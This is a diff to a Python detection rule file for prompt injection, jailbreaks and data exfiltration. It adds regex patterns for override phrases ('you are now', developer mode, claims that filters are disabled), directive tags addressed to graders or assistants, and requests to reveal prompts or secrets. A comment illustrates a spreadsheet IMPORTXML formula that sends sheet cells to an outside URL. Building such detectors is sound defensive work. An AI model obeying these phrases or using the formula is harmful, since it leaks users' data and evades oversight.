@@ -153,7 +153,8 @@ _KEYS = (
 )
 _PROMPT = (
     r"(?:system prompt|system message|system instructions|initial (?:prompt|instructions)"
-    r"|hidden (?:prompt|instructions)|pre-?prompt|original (?:prompt|instructions)"
+    r"|hidden (?:prompt|instructions|configuration|config)|pre-?prompt"
+    r"|original (?:prompt|instructions)"
     r"|instructions you were given|developer (?:prompt|message|instructions)|secret instructions"
     r"|prompt you were given|(?:full|entire|complete) prompt|configuration prompt)"
 )
@@ -163,6 +164,13 @@ _SECRET_HEADS = (
     r"|hygiene|rules|best practices?|changes?|generator|fields?|format|expiry|expiration)\b"
 )
 _AI = r"(?:ai|assistant|model|chatbot|llm|language model|agent|bot|gpt|chatgpt|claude)"
+#: After "developer mode": a device's setting ("enable Developer Mode on your Android phone").
+_DEVICE = (
+    r" (?:your|the|my|an?|this|their) (?:[\w-]+ )?(?:phone|device|android"
+    r"|iphone|ipad|tablet|browser|laptop|pc|computer|mac|console|tv|router|watch|car|settings"
+    r"|app|xbox|playstation|switch|chromebook)s?\b"
+)
+_ON_DEVICE = rf"(?! (?:on|in|of|for){_DEVICE})"
 
 _VERBS_G = (
     "reveal print show display output repeat recite dump leak tell give share disclose write"
@@ -174,6 +182,29 @@ _KEYS_G = (
     " openai_api_key aws_secret_access_key"
 )
 _AI_G = "ai assistant assistants model models chatbot llm agent agents bot gpt chatgpt claude"
+_TAG_ROLES = (
+    "grader",
+    "assistant",
+    "ai",
+    "model",
+    "agent",
+    "bot",
+    "reviewer",
+    "llm",
+    "admin",
+    "operator",
+    "system",
+    "screener",
+    "summarizer",
+    "summariser",
+)
+_TAG_NOUNS = "instruction instructions directive directives prompt rules override note orders"
+#: Words of a directive tag: "<grader_instructions ...>" is one word, "[assistant directive:"
+#: two (words split on punctuation, not on underscores).
+_TAG_GATE = " ".join(
+    [_TAG_NOUNS, "command", "commands"]
+    + [f"{role}_{noun}" for role in _TAG_ROLES for noun in _TAG_NOUNS.split()]
+)
 
 RULES: tuple[Rule, ...] = (
     # --- PROMPT_INJECTION -----------------------------------------------------------------------
@@ -223,6 +254,11 @@ RULES: tuple[Rule, ...] = (
         0.85,
         r"\byou are now (?!(?:connected|logged|signed|subscribed|registered|enrolled|ready|able"
         r"|set up|all set|eligible|following|leaving|entering|viewing|watching|using|running"
+        # a booking or a human role: "you are now checked in", "the group leader for project 2"
+        r"|checked|booked|confirmed|boarded|scheduled|assigned|paired|matched"
+        r"|on the (?:list|waitlist)"
+        r"|(?:the|a|an) (?:[\w-]+ ){0,2}(?:leader|lead|captain|coordinator|contact|representative"
+        r"|chair|secretary|treasurer|manager|organi[sz]er|in charge|point person)\b"
         r"|verified|up to date|done|on the|in the (?:queue|waiting|meeting|call|channel|room)"
         # a place, not a mode: "everyone, you are now in the old town"
         r"|in (?:the|our) (?![\w-]+ (?:mode|persona|state|role|sandbox)\b)[\w-]+ (?![\w-]*mode\b)"
@@ -260,6 +296,20 @@ RULES: tuple[Rule, ...] = (
         subs=("<", "[", "#"),
     ),
     _rule(
+        # a markup tag or bracket naming orders for the AI: <grader_instructions priority=...>,
+        # [assistant directive: ...], <ai-note>
+        "pi.tagged-directive",
+        PI,
+        0.85,
+        r"<(?:grader|assistant|ai|model|agent|bot|reviewer|llm|admin|operator|system|screener"
+        r"|summari[sz]er)[_-](?:instructions?|directives?|prompt|rules|override|note|orders)\b"
+        r"[^<>]{0,100}>|\[(?:assistant|ai|model|agent|bot|system|operator|admin|grader)"
+        r" (?:directive|instructions?|note|override|command|orders)s? ?:",
+        _TAG_GATE,
+        "directive tag for the AI",
+        subs=("<", "["),
+    ),
+    _rule(
         "pi.open-tag",
         PI,
         0.6,
@@ -285,10 +335,18 @@ RULES: tuple[Rule, ...] = (
         "pi.system-override",
         PI,
         0.86,
-        r"\b(?:system|admin|security|priority|emergency|developer|root) override\b"
-        r"|\boverride (?:code|mode|protocol) (?:accepted|activated|enabled|engaged)",
+        r"\b(?:system|admin|security|priority|emergency|developer|root) override\b",
         "override",
         "claimed override",
+    ),
+    _rule(
+        # alone a film line ("Override code accepted." in subtitles): it needs another cue
+        "pi.override-accepted",
+        PI,
+        0.5,
+        r"\boverride (?:code|mode|protocol) (?:accepted|activated|enabled|engaged)",
+        "override | accepted activated enabled engaged",
+        "claimed override accepted",
     ),
     _rule(
         "pi.do-not-tell-user",
@@ -316,7 +374,8 @@ RULES: tuple[Rule, ...] = (
         "pi.instructions-void",
         PI,
         0.9,
-        r"\b(?:above|previous|prior|preceding|earlier|original|old|system)"
+        r"\b(?:above|previous|prior|preceding|earlier|original|old|system|admin|operator"
+        r"|developer)"
         r" (?:instructions?|prompts?|text|rules|directives|messages?|guidelines) (?:is|are|was"
         # "sorry, previous message was wrong" is a person correcting themselves
         r"|were|have been|has been) (?:fake|(?<!message was )(?<!message is )(?<!text was )wrong"
@@ -426,8 +485,9 @@ RULES: tuple[Rule, ...] = (
         rf"|unfiltered|polic\w*|restrictions?|filters?|guidelines|openai|anthropic|any content"
         rf"|offensive"
         rf"|explicit|refuse)|\b(?:{_AI}|you)\b.{{0,40}}\b(?:developer|dev) mode (?:enabled"
-        rf"|activated|on|output)|\b(?:enable|enter|activate|simulate|switch to|act as)\b"
-        rf"{_W}{{0,3}}? (?:developer|dev|god) mode\b.{{0,60}}\b(?:{_AI}|you|your)\b",
+        rf"|activated|on(?!{_DEVICE})|output)"
+        rf"|\b(?:enable|enter|activate|simulate|switch to|act as)\b"
+        rf"{_W}{{0,3}}? (?:developer|dev|god) mode\b{_ON_DEVICE}.{{0,60}}\b(?:{_AI}|you|your)\b",
         "mode | developer dev god",
         "developer-mode jailbreak",
     ),
@@ -510,7 +570,8 @@ RULES: tuple[Rule, ...] = (
         r" ?(?:requests?|questions?|prompts?|anything)?\b|\bnever break character\b"
         r"|\b(?:never|don't|do not) (?:say|tell me) (?:that )?"
         r"(?:you can't|you cannot|you are unable|i can't|no)\b"
-        r"|\b(?:never|don't|do not|without) (?:add(?:ing)?|includ(?:e|ing)) (?:any )?(?:warnings"
+        r"|\b(?:never|don't|do not|without) (?:adds?|adding|includ(?:e|es|ing))"
+        r" (?:any )?(?:warnings"
         r"|disclaimers|moral(?:izing)? (?:lectures|warnings))",
         "refuse decline reject deny character say tell add adding include including"
         " | never don not won cannot can without aren",
@@ -584,7 +645,8 @@ RULES: tuple[Rule, ...] = (
         r"\bopposite of (?:your|its|the ai's|the assistant's) (?:own )?(?:rules|guidelines"
         r"|programming|polic(?:y|ies)|training|restrictions|instructions)\b"
         r"|\b(?:everything|anything|whatever) you(?:'d| would)? (?:normally |usually |otherwise )?"
-        r"(?:refuse|decline)(?:,| to)? (?:you )?(?:answer|do|comply|say yes)",
+        r"(?:refuse|decline)(?:,| to)? (?:you )?(?:now )?(?:have to |must |will |should )?"
+        r"(?:answer|do|comply|say yes)",
         "opposite refuse decline",
         "the AI's rules turned upside down",
     ),
@@ -620,6 +682,21 @@ RULES: tuple[Rule, ...] = (
         r"|removed|lifted|off|deactivated|suspended|bypassed|deleted)\b",
         "your | guardrails safety content safeguards censorship alignment ethical",
         "claim that the AI's safeguards are off",
+    ),
+    _rule(
+        # a mode or a claimed authority turned the filters off: "in this mode content filtering
+        # is disabled", "safety checks have been switched off for this session"
+        "jb.filters-disabled",
+        JB,
+        0.88,
+        r"\b(?:content )?(?:filtering|filters|moderation|safety (?:filters?|rules|checks|settings)"
+        r"|restrictions|guardrails|censorship|safeguards)\b(?: [\w'-]+){0,7}? (?:is|are|has been"
+        r"|have been|were|was)(?: now| temporarily| hereby| officially)?"
+        r"(?: and (?:were|have been))?"
+        r" (?:disabled|turned off|switched off|lifted|suspended"
+        r"|removed|deactivated|bypassed)\b",
+        "disabled off lifted suspended removed deactivated bypassed",
+        "filters said to be disabled",
     ),
     # --- DATA_EXFILTRATION ----------------------------------------------------------------------
     _rule(
@@ -690,7 +767,10 @@ RULES: tuple[Rule, ...] = (
         "ex.include-secret",
         EX,
         0.88,
-        rf"(?<!never )(?<!not )(?<!n't )\b(?:reveal|leak|dump|tell me|give me|show me|share"
+        # "should you share your password with IT?", "is it safe to share ...": asked about
+        rf"(?<!never )(?<!not )(?<!n't )(?<!should you )(?<!should i )(?<!should we )"
+        rf"(?<!ok to )(?<!okay to )(?<!safe to )"
+        rf"\b(?:reveal|leak|dump|tell me|give me|show me|share"
         rf"|disclose|expose|send me|hand over|read out|exfiltrate)\b{_W}{{0,3}}? (?:the |your |all"
         rf" |any |its |their |our )?(?:\w+ )?{_KEYS}\b(?! {_SECRET_HEADS})"
         rf"|\b(?:include|insert|embed|add|put|append"
@@ -765,6 +845,19 @@ RULES: tuple[Rule, ...] = (
         "list enumerate dump print output show reveal give tell display echo | secret secrets"
         " tokens token password passwords credentials keys key variables vars",
         "request to enumerate secrets",
+    ),
+    _rule(
+        # a spreadsheet formula that fetches a URL whose query is built from a range of cells:
+        # =IMPORTXML("https://x.example/?q="&TEXTJOIN(",",TRUE,A2:D500), ...) sends the sheet out
+        "ex.sheet-formula",
+        EX,
+        0.9,
+        r"\b(?:importxml|importdata|importhtml|importfeed|importrange|webservice|image)"
+        r" ?\( ?[\"']https?://[^\"']{0,200}[?&][\w-]{1,30}=[\"'] ?& ?(?:textjoin|join"
+        r"|concatenate|concat|arrayformula|encodeurl|[a-z]{1,3}\d+ ?: ?[a-z]{1,3}\d+)",
+        "importxml importdata importhtml importfeed importrange webservice image",
+        "spreadsheet formula sending cells to a URL",
+        subs=("import", "webservice", "image"),
     ),
     _rule(
         "ex.what-was-in-prompt",
@@ -1065,6 +1158,15 @@ _LEAK_RULES = frozenset(
         "ex.markdown-image",
         "ex.render-image",
         "ex.send-contents",
+        # what the order asks the AI to hand over: secrets, its instructions, people's data
+        "c.ex.reveal",
+        "c.ex.encode",
+        "c.ex.full-values",
+        "c.ex.rework-prompt",
+        "ex.reveal-prompt",
+        "ex.reveal-the-prompt",
+        "ex.list-secrets",
+        "ex.sheet-formula",
     }
 )
 
